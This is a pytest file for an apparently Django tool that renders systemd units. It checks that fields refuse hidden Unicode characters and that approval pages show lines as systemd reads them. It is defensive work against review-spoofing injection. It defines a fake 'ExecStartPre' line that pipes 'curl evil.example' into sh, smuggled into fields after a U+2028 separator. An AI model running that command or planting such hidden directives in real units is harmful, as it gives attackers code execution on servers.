"""What the approver sees is what runs: fields refuse characters that display
differently than systemd reads them, and units are shown split at `\\n` only, with any
remaining hidden character made visible.

The attack: a description holding U+2028 followed by `ExecStartPre=/bin/sh -c …`. systemd
reads one `Description=` line; the version page, the diffs and the request page split the
text at U+2028 and showed a fake line 4 of its own.
"""

from __future__ import annotations

import hashlib
import re
from typing import Any

import pytest
from django.contrib.auth.models import AbstractBaseUser
from django.urls import reverse

from tests.units.factories import baseline
from tests.units.test_views import client_for, form_post
from units.models import ProfileVersion, ServiceProfile
from units.rendering import render_unit
from units.services import profile_create
from units.unicode_text import split_lines, visible_html
from units.validation import validate_profile_data

pytestmark = pytest.mark.django_db

HIDDEN = {
    "\u2028": "U+2028 LINE SEPARATOR",
    "\u2029": "U+2029 PARAGRAPH SEPARATOR",
    "\x85": "U+0085 NEXT LINE (NEL)",
    "\u202e": "U+202E RIGHT-TO-LEFT OVERRIDE",
    "\u2066": "U+2066 LEFT-TO-RIGHT ISOLATE",
    "\u200b": "U+200B ZERO WIDTH SPACE",
    "\u200d": "U+200D ZERO WIDTH JOINER",
    "\ufeff": "U+FEFF ZERO WIDTH NO-BREAK SPACE",
}
FAKE = "ExecStartPre=/bin/sh -c 'curl -s evil.example | sh'"


def with_char(field: str, char: str) -> dict[str, Any]:
    values: dict[str, Any] = {
        "description": f"Kimi{char}{FAKE}",
        "model": f"/models/Ki{char}mi",
        "served_model_names": [f"ki{char}mi"],
        "extra_args": ["--max-num-batched-tokens", f"81{char}92"],
        "environment": {"HF_HOME": f"/da{char}ta"},
        "working_directory": f"/srv{char}/vllm",
        "vllm_executable": f"/opt/vllm{char}/bin/vllm",
        "quantization": f"fp{char}8",
        "max_model_len": f"32{char}k",
    }
    return baseline(**{field: values[field]})


FIELDS = [
    "description",
    "model",
    "served_model_names",
    "extra_args",
    "environment",
    "working_directory",
    "vllm_executable",
    "quantization",
    "max_model_len",
]


@pytest.mark.parametrize("char", sorted(HIDDEN), ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("field", FIELDS)
def test_fields_refuse_hidden_characters_naming_them(field: str, char: str) -> None:
    errors = validate_profile_data(with_char(field, char))
    assert any(HIDDEN[char] in message for message in errors.get(field, [])), errors


def test_a_line_separator_in_the_environment_box_is_named_not_split(
    alice: AbstractBaseUser,
) -> None:
    body = form_post(baseline(), environment=f"HF_HOME=/data\u2028{FAKE}")
    response = client_for(alice).post(reverse("units:create"), body)
    assert response.status_code == 400
    assert "U+2028 LINE SEPARATOR" in response.content.decode()
    assert not ServiceProfile.objects.exists()


def test_the_version_comment_refuses_bidi_controls(alice: AbstractBaseUser) -> None:
    body = form_post(baseline(), comment="fix \u202eflow")
    response = client_for(alice).post(reverse("units:create"), body)
    assert response.status_code == 400
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in response.content.decode()


# -- showing units: stored before these checks, or read from a host ------------------------


def legacy_version(alice: AbstractBaseUser) -> ProfileVersion:
    """A version saved before fields refused U+2028 (validation is bypassed on purpose)."""
    profile = profile_create(data=baseline(), created_by=alice)
    data = {**profile.versions.get().data, "description": f"Kimi\u2028{FAKE}"}
    text = render_unit(data)
    return ProfileVersion.objects.create(
        profile=profile,
        number=2,
        data=data,
        unit_text=text,
        unit_sha256=hashlib.sha256(text.encode()).hexdigest(),
        created_by=alice,
    )


def shown_lines(html: str) -> list[str]:
    return re.findall(r'id="unit-line-(\d+)"', html)


def test_version_page_numbers_lines_as_systemd_reads_them(alice: AbstractBaseUser) -> None:
    version = legacy_version(alice)
    page = client_for(alice).get(
        reverse("units:version", args=[version.profile_id, version.number])
    )
    html = page.content.decode()
    assert len(shown_lines(html)) == version.unit_text.count("\n")
    assert "⟨U+2028⟩" in html and 'title="U+2028 LINE SEPARATOR"' in html


def test_compare_diff_has_no_line_systemd_does_not_read(alice: AbstractBaseUser) -> None:
    version = legacy_version(alice)
    first = version.profile.versions.get(number=1)
    page = client_for(alice).get(reverse("units:compare"), {"a": first.pk, "b": version.pk})
    html = page.content.decode()
    added = re.findall(r'<span class="dl add">(.*?)\n</span>', html, re.S)
    assert all(not line.startswith("ExecStartPre=/bin/sh") for line in added)
    assert any("Description=Kimi⟨" in line for line in map(strip_tags, added))
    assert "⟨U+2028⟩" in html


def strip_tags(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html)


def test_split_lines_and_visible_markers() -> None:
    text = "a\u2028b\r\nc\x85d\n\n"
    assert split_lines(text) == ["a\u2028b\r", "c\x85d", ""]
    shown = visible_html("<b>\u202eevil\u200b\x1b[31m\t</b>")
    assert str(shown) == (
        '&lt;b&gt;<span class="hidden-char" title="U+202E RIGHT-TO-LEFT OVERRIDE">⟨U+202E⟩'
        '</span>evil<span class="hidden-char" title="U+200B ZERO WIDTH SPACE">⟨U+200B⟩</span>'
        '<span class="hidden-char" title="U+001B a control character">⟨U+001B⟩</span>'
        "[31m\t&lt;/b&gt;"
    )
